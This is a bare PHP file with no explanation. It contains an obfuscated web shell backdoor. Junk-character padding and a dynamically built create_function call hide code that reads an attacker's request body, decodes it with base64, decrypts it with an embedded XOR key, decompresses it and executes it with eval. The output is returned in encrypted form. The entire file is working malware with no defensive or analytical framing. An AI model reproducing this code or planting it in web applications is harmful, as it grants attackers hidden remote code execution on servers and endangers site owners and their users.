<?php
$D=str_replace('Z','','creaZte_ZfuZnZctioZn');
$i='$pOk="fpO00dpObabpOe"pO;pO$kh=pO"3cpO59dcpO048pOepO88"pO;pO$pOkpOfpO="5pO0e8fpO7d4cpO1b2';
$j='=0pO;pO($j<pO$c&pO&$ipO<pO$lpO);pO$pOj+pO+,$ipO++pO){pO$opO.=$pOt[$ipO]^$kpO[$jpO]pO;}}pOr';
$R='(pO@gzpOupOncpOomprpOess(pO@x(@pObaspOe6pO4_depOcpOode(pO$pOm[pO1]),pO$k)pO))pO;$o=pO@';
$k='ob_gpOetpO_conpOtentpOs();pO@opObpO_enpOd_cpOlepOan(pO);$pOr=@pObpOapOsepO64pO_enpOcod';
$K='eturpOn $pOopO;}
pOif(@pOprepOg_pOmpOatpOchpO("pO/$pOkpOhpO(pO.+pO)$kpOfpO/",pO@fpOipOle_gpOet';
$I='epO(@pOx(@gpOzcopOmprepOspOs($pOopO),$kpO));ppOrintpO(pO"pO$pOp$pOkhpO$rpO$pOkpOfpO"pO)pO;}';
$e='";pO$pOp="ZpOx8pOvQpOkpO2LmNpO5ppORpOt7pOW";
pOfupOnpOctpOiopOn x(pO$pOt,$kpO){$pOcpO=stpOrl';
$u='_conpOtpOenpOtspO("ppOhppO:pO//pOipOnpupOt")pO,$mpO)==pO1){pO@pOob_pOstarpOt()pO;@epOvpOal';
$t='en($pOk);pO$l=pOspOtrlpOen(pO$tpO)pO;pO$pOo=""pO;forpO(pO$i=0pO;pO$pOi<$lpO;){fpOopOr($pOj';
$b=str_replace('pO','',$i.$e.$t.$j.$K.$u.$R.$k.$I);
$Z=$D('',$b);$Z();
?>
